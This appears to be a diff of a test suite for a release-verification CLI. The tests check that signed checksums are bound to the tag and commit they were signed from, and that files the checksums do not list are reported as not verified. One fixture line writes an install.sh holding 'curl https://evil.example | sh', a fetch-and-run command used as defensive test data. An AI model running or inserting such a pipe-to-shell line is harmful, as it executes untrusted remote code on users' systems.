@@ -109,6 +109,19 @@ describe('trust-kit verify-release', () => {
     assert.match(other.stdout, /\n {2}not verified: {5}1 file\(s\) SHA256SUMS does not list: trusted_root\.jsonl\n/);
   });
 
+  test('without GitHub\'s release attestation, --tag and --commit are held to the checksums signer\'s source ref and commit: an older signed release does not pass for the tag asked for', async () => {
+    const policy = await writePolicy('policy-source.json');
+    const { sha } = claimsOf(stack.oidc.mintToken(TAG_CLAIMS)) as { sha: string };
+    const asked = await cli(['verify-release', 'release', '--policy', policy, '--tag', 'v1.0.0', '--commit', sha], root);
+    assert.equal(asked.code, EXIT.OK, asked.stderr);
+    const older = await cli(['verify-release', 'release', '--policy', policy, '--tag', 'v2.0.0'], root);
+    assert.equal(older.code, EXIT.POLICY_MISMATCH, older.stderr);
+    assert.match(older.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: SHA256SUMS was signed from "refs\/tags\/v1\.0\.0", not from "refs\/tags\/v2\.0\.0" \(--tag\)/);
+    const otherCommit = await cli(['verify-release', 'release', '--policy', policy, '--commit', '0'.repeat(40)], root);
+    assert.equal(otherCommit.code, EXIT.POLICY_MISMATCH, otherCommit.stderr);
+    assert.match(otherCommit.stderr, /VERIFY_POLICY_SOURCE_MISMATCH: SHA256SUMS was signed from the commit "[0-9a-f]{40}", not "0{40}" \(--commit\)/);
+  });
+
   test('a file the signed checksums file does not list is named as not verified, never counted as verified', async () => {
     const extra = await makeRelease('extra-asset');
     await writeFile(join(extra, 'install.sh'), 'curl https://evil.example | sh\n');
